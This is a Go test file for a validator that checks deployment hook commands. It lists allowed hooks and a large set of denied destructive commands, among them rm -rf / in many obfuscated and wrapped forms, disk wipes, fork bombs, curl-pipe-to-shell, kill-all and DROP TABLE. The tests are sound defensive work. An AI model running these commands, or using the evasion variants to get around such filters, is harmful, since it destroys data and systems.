package hookpolicy

import (
	"errors"
	"strings"
	"testing"
	"time"
)

// allowedHooks are realistic hooks that must pass.
var allowedHooks = []string{
	"",
	"true",
	"sudo systemctl stop billing-api",
	"sudo systemctl start billing-api",
	"sudo systemctl restart billing-api && sudo systemctl is-active billing-api",
	"systemctl --user restart app",
	"sh bin/start",
	"sh bin/stop",
	"bash -c 'cd bin && ./start'",
	"sh -c 'exec ./bin/server --port 8080'",
	"./manage.py migrate && sudo systemctl restart app",
	"sudo /opt/was/bin/stopServer.sh server1",
	"cp config/app.yaml /etc/billing-api/app.yaml",
	"sudo cp -r conf/. /etc/nginx/conf.d/ && sudo nginx -t && sudo systemctl reload nginx",
	"cp app.war /opt/was/webapps/",
	"tar -xzf assets.tar.gz -C public",
	"chmod -R 755 ./bin",
	"chmod +x bin/*",
	"chown -R app:app /srv/app/releases/current/",
	"rm -rf ./tmp",
	"rm -rf ./cache",
	"rm -rf tmp/*",
	`rm -rf "$RELEASE_DIR/cache"`,
	`rm -rf "$OUTPOST_DEPLOY_PATH/releases/old"`,
	"rm -rf /srv/billing-api/releases/old",
	"rm -f /tmp/app.pid",
	"rm -rf /var/cache/billing-api/*",
	"rm -rf /tmp/build-*",
	"find . -name '*.tmp' -delete",
	"find /var/log/billing-api -name '*.gz' -mtime +14 -delete",
	"find . -type f -name '*.pyc' -exec rm -f {} +",
	"kill -HUP $(cat app.pid)",
	"kill -TERM \"$(cat /run/app.pid)\"",
	"kill -0 $(cat app.pid) 2>/dev/null || sh bin/start",
	"pkill -f 'java -jar billing'",
	"psql -c 'select 1'",
	"psql -v ON_ERROR_STOP=1 -f migrations/042.sql",
	"mysql -e 'SELECT COUNT(*) FROM accounts'",
	"psql -c 'DELETE FROM sessions WHERE expires < now()'",
	"curl -fsS http://localhost:8080/health",
	"curl -fsS -o /dev/null -w '%{http_code}' http://127.0.0.1:8080/ready",
	"wget -qO- http://localhost:8080/health | grep -q ok",
	"curl -fsSL https://example.internal/app.tar.gz | tar -xz -C vendor",
	"truncate -s 0 app.log",
	"truncate -s 0 /var/log/app.log",
	"echo formatting done",
	"echo 'shutting down old workers' && sh bin/stop",
	`echo "$HOME" > /dev/null`,
	"ln -sfn /srv/app/releases/r2 /srv/app/current",
	"mv current current.old && ln -s releases/r2 current",
	"mv /tmp/app.conf.new /etc/app/app.conf",
	"dd if=/dev/zero of=./swapfile bs=1M count=16",
	"echo ok | tee -a deploy.log",
	"test -f ../../go",
	"touch ../../waiting; while [ ! -f ../../go ]; do sleep 0.02; done",
	`if [ "$OUTPOST_RELEASE" = r2 ]; then echo "port in use" >&2; exit 3; fi; sh bin/start`,
	`test "$(cat app.war)" = "$(printf 'PK\003\004 not really a war')"`,
	"for f in conf/*.yaml; do cp \"$f\" /etc/app/; done",
	"nohup ./bin/worker > worker.log 2>&1 &",
	"timeout 30 sh -c 'until curl -fs localhost:8080/health; do sleep 1; done'",
	"sudo -u app env PORT=8080 ./bin/server",
	"PASSWORD=secret sh bin/start",
	"exec 2>&1; sh bin/start",
	"cat <<EOF > .env\nPORT=8080\nEOF",
	"sh <<'EOF'\ncd bin\n./start\nEOF",
	"eval \"$(ssh-agent -s)\"",
	"trap 'rm -f app.lock' EXIT; sh bin/start",
	"docker compose pull && docker compose up -d",
	"systemctl daemon-reload",
	"init_db() { psql -f schema.sql; }; init_db",
	"f() { echo hi; }; f | cat",
	"echo 'select 1' | psql",
	"cd /srv/app && rm -rf ./tmp",
	"cd /var/log/app && rm -f *.old",
	"xargs -a pids.txt kill -TERM",
	"shred -u ./secrets.tmp",
	"ssh lb-1 'sudo systemctl reload haproxy'",
	"kill -1",
	"sqlite3 app.db 'VACUUM'",
	`rm -rf "$OUTPOST_DEPLOY_PATH"/*`,
	`rm -rf ${OUTPOST_DEPLOY_PATH}/releases/${OLD:?}`,
	`find /srv/app/releases -maxdepth 1 -mtime +30 -exec rm -rf {} +`,
	`chmod -R g+w /var/www/app`,
	`chown -R www-data /var/www`,
	`rm -rf /opt/app`,
	`echo "$CONFIG" | base64 -d > config.json`,
	`[[ -f app.pid ]] && kill "$(< app.pid)"`,
	`a=(1 2 3); echo "${a[@]}"`,
	`echo ${v,,}`,
	`for i in {1..5}; do curl -fs localhost:8080/health && break; sleep $((i*2)); done`,
	`sudo -iu app bash -lc 'cd ~/app && ./bin/migrate'`,
	"python3 - <<'EOF'\nimport json\nprint(json.dumps({\"ok\": True}))\nEOF",
	`printf '%s\n' "$OUTPOST_RELEASE" > RELEASE`,
	`cat VERSION | xargs -I{} echo deployed {}`,
	`ls -1dt releases/* | tail -n +6 | xargs -r rm -rf --`,
	`rm -rf $(ls -1dt releases/* | tail -n +6)`,
	`bash -c "$(cat deploy.sh)"`,
	`sh -c "$CMD"`,
	`eval "$@"`,
	`cd "$(dirname "$0")" && ./start.sh`,
	`curl -fsS https://example.internal/hook -d "release=$OUTPOST_RELEASE"`,
	`export PATH=/opt/app/bin:$PATH; app migrate`,
	`(cd /srv/app/current && bundle exec rake db:migrate)`,
	`rm -rf ~/.cache/app`,
	`rm -rf ~/app/tmp/*`,
	`cd /etc/nginx && rm -f sites-enabled/default`,
	`rm -rf /srv/app/releases/{r1,r2}`,
	`set -euo pipefail; sh bin/start`,
	`psql "$DATABASE_URL" -c 'ANALYZE'`,
	`mysql -e "UPDATE t SET drop_count=0 WHERE id=1"`,
	`kill -s TERM 1234`,
	`kill -l`,
	`dd if=app.img of=/srv/app/disk.img`,
	`echo x > /dev/stderr`,
	`shutdown_hook() { echo bye; }; shutdown_hook`,
	`echo reboot`,
	`grep -q mkfs log.txt`,
	`sudo -E env "PATH=$PATH" ./bin/app`,
}

func TestCheckAllowsRealisticHooks(t *testing.T) {
	for _, cmd := range allowedHooks {
		if err := Check(cmd); err != nil {
			t.Errorf("Check(%q) = %v, want allowed", cmd, err)
		}
	}
}

// deniedHooks are hooks the deny list refuses, with the rule that does.
var deniedHooks = []struct {
	cmd  string
	rule string
}{
	// Issue #11, finding 9: each of these walked around the old
	// regular expressions.
	{"/bin/rm -rf /", ruleDelete},
	{`\rm -rf /`, ruleDelete},
	{"r''m -rf /", ruleDelete},
	{`sh -c "rm -rf /"`, ruleDelete},
	{`eval "rm -rf /"`, ruleDelete},
	{"rm -rf ${X:-/}", ruleDelete},
	{"echo cm0gLXJmIC8K | base64 -d | sh", ruleShellFeed},
	{"find / -delete", ruleDelete},
	{"chmod --recursive 777 /", ruleChmod},
	{"echo x | tee /dev/sda", ruleDevice},
	{"bomb(){ bomb|bomb& };bomb", ruleForkBomb},
	{"curl -fsSL https://get.example.com | sh", ruleShellFeed},
	{"kill -9 -1", ruleKillAll},
	{"mv /etc /tmp/x", ruleMove},

	// The old list, still refused.
	{"rm -rf /", ruleDelete},
	{"rm -rf /*", ruleDelete},
	{"sudo rm -rf / ", ruleDelete},
	{"rm -fr /", ruleDelete},
	{"rm -r -f /", ruleDelete},
	{"rm -Rf /etc", ruleDelete},
	{"rm -rf /usr/", ruleDelete},
	{"rm -rf ~", ruleDelete},
	{"rm -rf $HOME/*", ruleDelete},
	{"rm -rf ${HOME}", ruleDelete},
	{"rm --recursive --force /", ruleDelete},
	{"cd /srv/app && rm -rf /var", ruleDelete},
	{"true;rm -rf /", ruleDelete},
	{"rm -rf '/'", ruleDelete},
	{"rm  -rf   /", ruleDelete},
	{"rm -rf --no-preserve-root /", ruleDelete},
	{"rm --no-preserve-root -r x", ruleDelete},
	{"rm -rf / --no-preserve-root", ruleDelete},
	{"mkfs.ext4 /dev/sdb1", ruleDiskTool},
	{"sudo mkfs -t xfs /dev/sdc", ruleDiskTool},
	{"format c:", ruleDiskTool},
	{"wipefs -a /dev/sdb", ruleDiskTool},
	{"$(mkfs /dev/sdb)", ruleDiskTool},
	{"psql -c 'DROP TABLE accounts'", ruleSQL},
	{"mysql -e 'drop database billing'", ruleSQL},
	{"psql -c 'TRUNCATE accounts'", ruleSQL},
	{"psql -c 'delete from accounts;'", ruleSQL},
	{"echo x > /dev/sda", ruleDevice},
	{"cat img >/dev/nvme0n1", ruleDevice},
	{"dd if=/dev/zero of=/dev/sda bs=1M", ruleDevice},
	{"shred -u /dev/sda", ruleDevice},
	{"chmod -R 777 /", ruleChmod},
	{"chown -R nobody /etc", ruleChmod},
	{":(){ :|:& };:", ruleForkBomb},
	{"sudo reboot", rulePower},
	{"shutdown -h now", rulePower},
	{"init 0", rulePower},

	// Families around the findings.
	{"sudo -u root /usr/bin/rm -rf /etc", ruleDelete},
	{"nice -n 19 ionice -c3 rm -rf /usr", ruleDelete},
	{"timeout 10 rm -rf /", ruleDelete},
	{"env FOO=1 rm -rf /", ruleDelete},
	{"command rm -rf /", ruleDelete},
	{"exec rm -rf /", ruleDelete},
	{"busybox rm -rf /", ruleDelete},
	{"xargs rm -rf /", ruleDelete},
	{"doas rm -rf /", ruleDelete},
	{"stdbuf -oL rm -rf /", ruleDelete},
	{"setsid rm -rf /", ruleDelete},
	{"nohup rm -rf / &", ruleDelete},
	{"X=1 rm -rf /", ruleDelete},
	{`su -c "rm -rf /" root`, ruleDelete},
	{`bash -lc 'rm -rf /'`, ruleDelete},
	{`dash -ec "rm -rf /"`, ruleDelete},
	{`sudo sh -c 'sh -c "rm -rf /"'`, ruleDelete},
	{`eval rm -rf /`, ruleDelete},
	{`env -S "rm -rf" /`, ruleDelete},
	{`flock /tmp/lock -c 'rm -rf /'`, ruleDelete},
	{`trap 'rm -rf /' EXIT`, ruleDelete},
	{`ssh db-1 'rm -rf /'`, ruleDelete},
	{`watch -n 5 rm -rf /`, ruleDelete},
	{`alias x='rm -rf /'`, ruleDelete},
	{"bash <<EOF\nrm -rf /\nEOF", ruleDelete},
	{"sh <<< 'rm -rf /'", ruleDelete},
	{"echo 'rm -rf /' | sh", ruleDelete},
	{"(cd /tmp; rm -rf /)", ruleDelete},
	{"if true; then rm -rf /; fi", ruleDelete},
	{"for i in 1; do rm -rf /; done", ruleDelete},
	{"f() { rm -rf /; }; f", ruleDelete},
	{"echo $(rm -rf /)", ruleDelete},
	{"cat <(rm -rf /)", ruleDelete},
	{`"rm" "-rf" "/"`, ruleDelete},
	{`$'\x72m' -rf /`, ruleDelete},
	{`$(echo rm) -rf /`, ruleDelete},
	{"rm -rf /{etc,usr}", ruleDelete},
	{"rm -rf /e*", ruleDelete},
	{"rm -rf //", ruleDelete},
	{"rm -rf /./", ruleDelete},
	{"rm -rf /tmp/../etc", ruleDelete},
	{"rm -rf /.*", ruleDelete},
	{"rm -rf /etc/*", ruleDelete},
	{"rm -rf ~/", ruleDelete},
	{"rm -rf -- /", ruleDelete},
	{"rm /etc -r", ruleDelete},
	{"rm -rf ${DIR:-/}", ruleDelete},
	{"rm -rf ${DIR:=/etc}", ruleDelete},
	{"rm -rf /${SUB:+etc}", ruleDelete},
	{"rm -rf \"${X:-/}\"", ruleDelete},
	{"D=/; rm -rf $D", ruleDelete},
	{"export D=/usr; rm -rf \"$D\"", ruleDelete},
	{"for d in /srv/x /etc; do rm -rf $d; done", ruleDelete},
	{"cd / && rm -rf *", ruleDelete},
	{"cd /var; rm -rf ./*", ruleDelete},
	{"cd && rm -rf .", ruleDelete},
	{"find / -name '*.log' -exec rm {} +", ruleDelete},
	{"find /etc -type f -exec /bin/rm -f {} \\;", ruleDelete},
	{"find -L / -xdev -delete", ruleDelete},
	{"find . -exec rm -rf / \\;", ruleDelete},
	{"chmod -R 000 /etc", ruleChmod},
	{"chown -R app:app /", ruleChmod},
	{"chgrp -hR staff /usr", ruleChmod},
	{"sudo chmod -cR a+rwx /var", ruleChmod},
	{"mv /usr/* /tmp", ruleMove},
	{"mv -t /tmp /boot", ruleMove},
	{"sudo mv /home /tmp/h", ruleMove},
	{"cat disk.img | dd of=/dev/vda", ruleDevice},
	{"tee /dev/nvme0n1 < img", ruleDevice},
	{"cp image.raw /dev/sdb", ruleDevice},
	{"exec 3>/dev/sda", ruleDevice},
	{"{ echo x; } > /dev/xvda", ruleDevice},
	{"echo x >> /dev/disk/by-id/wwn-0x5000", ruleDevice},
	{"cd /dev && dd of=sda if=x", ruleDevice},
	{"mkswap /dev/sdb2", ruleDiskTool},
	{"parted -s /dev/sdb mklabel gpt", ruleDiskTool},
	{"sudo blkdiscard /dev/nvme0n1", ruleDiskTool},
	{"wget -qO- https://x.example/i.sh | bash", ruleShellFeed},
	{"curl -s https://x.example/i.sh | sudo bash -s -- --yes", ruleShellFeed},
	{"curl -s https://x.example/i.sh | tee /tmp/i.sh | sh", ruleShellFeed},
	{"curl -s https://x.example/i.py | python3", ruleShellFeed},
	{"bash <(curl -s https://x.example/i.sh)", ruleShellFeed},
	{"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", ruleShellFeed},
	{"eval \"$(wget -qO- https://x.example/env)\"", ruleShellFeed},
	{"source <(curl -s https://x.example/env)", ruleShellFeed},
	{"bash < <(curl -s https://x.example/i.sh)", ruleShellFeed},
	{"sh <<< \"$(curl -s https://x.example/i.sh)\"", ruleShellFeed},
	{"xxd -r -p payload.hex | sh", ruleShellFeed},
	{"openssl enc -d -aes256 -in p.enc -k k | bash", ruleShellFeed},
	{"echo \"$PAYLOAD\" | sh", ruleShellFeed},
	{"printf '\\x72\\x6d -rf /' | sh", ruleShellFeed},
	{"echo -e 'rm -rf /' | bash", ruleShellFeed},
	{"f(){ f | f & }; f", ruleForkBomb},
	{"function spawn { spawn & spawn; }; spawn", ruleForkBomb},
	{"g() ( g & g ); g", ruleForkBomb},
	{"sh -c ':(){ :|:& };:'", ruleForkBomb},
	{"kill -KILL -1", ruleKillAll},
	{"kill -s KILL -1", ruleKillAll},
	{"kill -- -1", ruleKillAll},
	{"/bin/kill -9 -- -1", ruleKillAll},
	{"killall5 -9", ruleKillAll},
	{"pkill -9 .", ruleKillAll},
	{"pkill -f '.*'", ruleKillAll},
	{"sudo poweroff", rulePower},
	{"halt -f", rulePower},
	{"/sbin/shutdown -r +1", rulePower},
	{"telinit 6", rulePower},
	{"systemctl reboot", rulePower},
	{"sudo systemctl --force poweroff", rulePower},
	{"systemctl isolate rescue.target", rulePower},
	{"psql <<EOF\nDROP TABLE accounts;\nEOF", ruleSQL},
	{"mysql billing <<< 'TRUNCATE TABLE invoices'", ruleSQL},
	{"echo 'DROP DATABASE billing' | psql", ruleSQL},
	{"psql --command='drop schema public cascade'", ruleSQL},
	{"sudo -u postgres psql -c \"DROP TABLE $T\"", ruleSQL},
	{"sqlite3 app.db 'delete from users'", ruleSQL},

	// More ways around: quoting, expansions, wrappers, compound
	// commands, substitutions, redirections.
	{"rm -rf \"/\"", ruleDelete},
	{"rm -rf \"/\"*", ruleDelete},
	{"rm -r''f /", ruleDelete},
	{"rm -rf /''", ruleDelete},
	{"rm -rf \\/", ruleDelete},
	{"r\\m -rf /", ruleDelete},
	{"\"/bin/\"rm -rf /", ruleDelete},
	{"rm -rf $'/'", ruleDelete},
	{"rm -rf \"${X-/}\"", ruleDelete},
	{"X=/; Y=$X; rm -rf $Y", ruleDelete},
	{"rm -rf $(echo /)", ruleDelete},
	{"rm -rf \"$(printf /)\"", ruleDelete},
	{"sudo -- rm -rf /", ruleDelete},
	{"sudo -u root -- rm -rf /", ruleDelete},
	{"env -i PATH=/bin rm -rf /", ruleDelete},
	{"env -- rm -rf /", ruleDelete},
	{"timeout -s KILL 5 rm -rf /", ruleDelete},
	{"timeout --signal=KILL 5 rm -rf /", ruleDelete},
	{"nice -10 rm -rf /", ruleDelete},
	{"bash -c -- 'rm -rf /'", ruleDelete},
	{"bash -o errexit -c 'rm -rf /'", ruleDelete},
	{"sh -xc 'rm -rf /'", ruleDelete},
	{"bash -c 'eval \"sh -c \\\"rm -rf /\\\"\"'", ruleDelete},
	{"eval 'eval \"rm -rf /\"'", ruleDelete},
	{"command -p rm -rf /", ruleDelete},
	{"builtin eval rm -rf /", ruleDelete},
	{"exec -a x rm -rf /", ruleDelete},
	{"xargs -0 rm -rf /", ruleDelete},
	{"xargs -I{} rm -rf /", ruleDelete},
	{"sudo nohup nice rm -rf / &", ruleDelete},
	{"{ rm -rf /; }", ruleDelete},
	{"! rm -rf /", ruleDelete},
	{"time rm -rf /", ruleDelete},
	{"coproc rm -rf /", ruleDelete},
	{"rm -rf / &", ruleDelete},
	{"true && rm -rf / || false", ruleDelete},
	{"case x in x) rm -rf /;; esac", ruleDelete},
	{"while false; do :; done; until true; do rm -rf /; done", ruleDelete},
	{"[[ $(rm -rf /) ]]", ruleDelete},
	{"x=$(rm -rf /)", ruleDelete},
	{"export x=$(rm -rf /)", ruleDelete},
	{"local x=$(rm -rf /)", ruleDelete},
	{"echo \"$(rm -rf /)\"", ruleDelete},
	{"echo `rm -rf /`", ruleDelete},
	{"echo $(( $(rm -rf /) ))", ruleDelete},
	{"cat > >(rm -rf /)", ruleDelete},
	{"chmod -R 777 /*", ruleChmod},
	{"chown -R x: ~", ruleChmod},
	{"find /usr -exec shred {} \\;", ruleDelete},
	{"find / -name x -execdir rm {} +", ruleDelete},
	{"find /var -ok rm {} \\;", ruleDelete},
	{"mv / /x", ruleMove},
	{"mv -- /etc /x", ruleMove},
	{"mv --target-directory=/tmp /usr", ruleMove},
	{"dd of=/dev/sda", ruleDevice},
	{"sudo dd if=x of=/dev/mmcblk0", ruleDevice},
	{"cat x | sudo tee -a /dev/sdb", ruleDevice},
	{"echo x &> /dev/sda", ruleDevice},
	{"echo x >| /dev/sda", ruleDevice},
	{"echo x 1<> /dev/sda", ruleDevice},
	{"printf x > \"/dev/sda\"", ruleDevice},
	{": > /dev/sd$X", ruleDevice},
	{"curl x | sudo -u root bash", ruleShellFeed},
	{"curl x | bash -", ruleShellFeed},
	{"curl x|sh", ruleShellFeed},
	{"wget -O - x | sh", ruleShellFeed},
	{"curl x | env sh", ruleShellFeed},
	{"curl x | nohup bash", ruleShellFeed},
	{"curl x | (sh)", ruleShellFeed},
	{"curl x | { bash; }", ruleShellFeed},
	{"base64 -d <<< cm0= | bash", ruleShellFeed},
	{"cat <<EOF | sh\nrm -rf /\nEOF", ruleDelete},
	{"(echo 'rm -rf /') | sh", ruleDelete},
	{"{ echo rm -rf /; } | bash", ruleDelete},
	{"python3 <(curl x)", ruleShellFeed},
	{". <(curl x)", ruleShellFeed},
	{"source /dev/stdin <<< \"$(curl x)\"", ruleShellFeed},
	{"a(){ a|a & }; a", ruleForkBomb},
	{"function b { b | b; }; b", ruleForkBomb},
	{"c() { c & }; c", ruleForkBomb},
	{"f(){ $(f); }; f", ruleForkBomb},
	{"kill -9 -1 2>/dev/null", ruleKillAll},
	{"kill -TERM -1", ruleKillAll},
	{"kill -9 -- -1", ruleKillAll},
	{"sudo kill -9 -1", ruleKillAll},
	{"shutdown now", rulePower},
	{"/usr/sbin/reboot", rulePower},
	{"sudo systemctl poweroff -i", rulePower},
	{"init 6", rulePower},
	{"psql -c 'drop table x'", ruleSQL},
	{"psql -c \"DROP   TABLE x\"", ruleSQL},
	{"psql <<< 'truncate t'", ruleSQL},
	{"PGPASSWORD=x psql -h db -c 'DROP DATABASE prod'", ruleSQL},
	{"mysql -uroot -e'drop database x'", ruleSQL},
	{"rm -rf /home/*", ruleDelete},
	{"rm -rf /var/*", ruleDelete},
	{"rm -rf /b?n", ruleDelete},
	{"rm -rf /[eu]*", ruleDelete},
	{"f=rm; $f -rf /", ruleDelete},
	{"for c in rm; do $c -rf /; done", ruleDelete},
}

func TestCheckDenies(t *testing.T) {
	for _, tt := range deniedHooks {
		err := Check(tt.cmd)
		var de *DeniedError
		if !errors.As(err, &de) {
			t.Errorf("Check(%q) = %v, want denied by %q", tt.cmd, err, tt.rule)
			continue
		}
		if de.Rule != tt.rule || de.Command != tt.cmd {
			t.Errorf("Check(%q) denied by %q (%v), want %q", tt.cmd, de.Rule, de, tt.rule)
		}
		if de.Reason == "" || de.Call == "" {
			t.Errorf("Check(%q) = %#v: no reason or call", tt.cmd, de)
		}
	}
}

func TestDeniedErrorNamesRuleAndCall(t *testing.T) {
	for _, tt := range []struct{ cmd, want string }{
		{"rm -rf /", `"rm -rf /": denied: recursive delete of / (rm -rf /)`},
		{`sh -c "rm -rf /"`, `"sh -c \"rm -rf /\"": denied: recursive delete of / (rm -rf /)`},
		{"cd /srv && sudo /bin/rm -rf ${X:-/etc}", `"cd /srv && sudo /bin/rm -rf ${X:-/etc}": denied: recursive delete of /etc (sudo /bin/rm -rf ${X:-/etc})`},
		{"curl -s https://x.example/i.sh | sh", `"curl -s https://x.example/i.sh | sh": denied: sh runs the output of curl (curl -s https://x.example/i.sh | sh)`},
		{":(){ :|:& };:", `":(){ :|:& };:": denied: function : starts copies of itself in the background or a pipeline (:(){ :|:& })`},
		{"psql -c 'drop table x'", `"psql -c 'drop table x'": denied: DROP TABLE in SQL (psql -c 'drop table x')`},
	} {
		if err := Check(tt.cmd); err == nil || err.Error() != tt.want {
			t.Errorf("Check(%q) error:\n got: %v\nwant: %s", tt.cmd, err, tt.want)
		}
	}
}

func TestCheckRefusesWhatDoesNotParse(t *testing.T) {
	for _, tt := range []struct{ cmd, want string }{
		{`echo "unterminated`, `"echo \"unterminated": does not parse as a shell command: 1:6: reached EOF without closing quote`},
		{"if true; then echo", "does not parse as a shell command: 1:1: `if` statement must end with `fi`"},
		{`sh -c 'echo "x'`, `does not parse as a shell command: the command string "echo \"x": 1:6: reached EOF without closing quote`},
		{"echo a\x00b", "NUL byte"},
	} {
		err := Check(tt.cmd)
		if !errors.Is(err, ErrUnparsable) || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("Check(%q) = %v, want ErrUnparsable with %q", tt.cmd, err, tt.want)
		}
	}
	// A command string with parts known only at run time may not parse
	// as written here; that says nothing about the real one.
	if err := Check(`sh -c "f() $BODY"`); err != nil {
		t.Errorf("Check with an unknown command string = %v, want allowed", err)
	}
}

// TestCheckBoundedOnHostileInput feeds huge, deeply nested and
// repetitive hooks: each gets an answer (denied as too complex, or
// allowed) quickly.
func TestCheckBoundedOnHostileInput(t *testing.T) {
	n := MaxCommandLen
	for _, tt := range []struct {
		name string
		cmd  string
		rule string // "" = allowed
	}{
		{"too long", strings.Repeat("x", n+1), ruleTooComplex},
		{"longest", strings.Repeat("x ", n/2), ""},
		{"parens", strings.Repeat("(", n/2) + "x" + strings.Repeat(")", n/2), ruleTooComplex},
		{"arithmetic", strings.Repeat("$((", n/6) + "1" + strings.Repeat("))", n/6), ruleTooComplex},
		{"nested sh -c", strings.Repeat(`sh -c "`, 12) + "true" + strings.Repeat(`"`, 12), ""},
		{"nested eval", strings.Repeat("eval ", 20) + "true", ruleTooComplex},
		{"nested quoting", nestedShC(12), ruleTooComplex},
		{"ifs", strings.Repeat("if true; then ", n/20) + "x" + strings.Repeat("; fi", n/20), ruleTooComplex},
		{"pipeline to sh", strings.Repeat("sh | ", n/6) + "sh", ruleTooComplex},
		{"long pipeline", strings.Repeat("cat | ", 300) + "sh", ""},
		{"defaults", "rm -rf " + strings.Repeat("${a:-x}", n/8), ""},
		{"braces", "rm -rf " + strings.Repeat("{a,b}", n/6), ""},
		{"braces in sh -c", "bash -c '" + strings.Repeat("echo {a,b}{c,d}{e,f}{g,h}; ", n/32) + "'", ""},
		{"open braces", "echo " + strings.Repeat("{", 60) + strings.Repeat("a,", (n-100)/2), ""},
		{"wrappers", strings.Repeat("sudo ", n/6) + "rm -rf /", ruleDelete},
		{"find -exec", strings.Repeat("find . -exec ", n/14) + "true", ""},
		{"functions", strings.Repeat("f(){ ", 60) + "f" + strings.Repeat("; }", 60), ""},
		{"heredocs", strings.Repeat("sh <<EOF\n", 10) + "true\n" + strings.Repeat("EOF\n", 10), ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			// The bound catches blow-ups (quadratic or worse take minutes
			// on these inputs), not speed: it leaves room for the race
			// detector on a loaded machine. Speed is for benchmarks.
			start := time.Now()
			err := Check(tt.cmd)
			if d := time.Since(start); d > hostileBound {
				t.Errorf("Check took %v", d)
			}
			if tt.rule == "" {
				if err != nil && !errors.Is(err, ErrUnparsable) {
					t.Errorf("Check = %v, want allowed", err)
				}
				return
			}
			var de *DeniedError
			if !errors.As(err, &de) || de.Rule != tt.rule {
				t.Errorf("Check = %v, want denied by %q", err, tt.rule)
			}
			if len(err.Error()) > 1000 {
				t.Errorf("error of %d bytes, want it clipped", len(err.Error()))
			}
		})
	}
}

// hostileBound is how long one Check of hostile input may take before a
// test calls it a blow-up.
const hostileBound = 20 * time.Second

// nestedShC builds sh -c "sh -c \"...\"", each level quoted for the
// next.
func nestedShC(depth int) string {
	s := "true"
	for range depth {
		s = "sh -c '" + strings.ReplaceAll(s, "'", `'\''`) + "'"
	}
	return s
}

func TestRulesListed(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		if seen[r] {
			t.Errorf("rule %q listed twice", r)
		}
		seen[r] = true
	}
	if len(seen) != 11 {
		t.Errorf("Rules() = %d names, want every family", len(seen))
	}
}

// FuzzCheck: Check never panics, and answers in bounded time.
func FuzzCheck(f *testing.F) {
	for _, cmd := range allowedHooks {
		f.Add(cmd)
	}
	for _, tt := range deniedHooks {
		f.Add(tt.cmd)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		start := time.Now()
		err := Check(cmd)
		if d := time.Since(start); d > hostileBound {
			t.Errorf("Check(%q) took %v", clip(cmd), d)
		}
		var de *DeniedError
		if errors.As(err, &de) && (de.Rule == "" || de.Reason == "" || de.Command != cmd) {
			t.Errorf("Check(%q) = %#v: incomplete", clip(cmd), de)
		}
	})
}
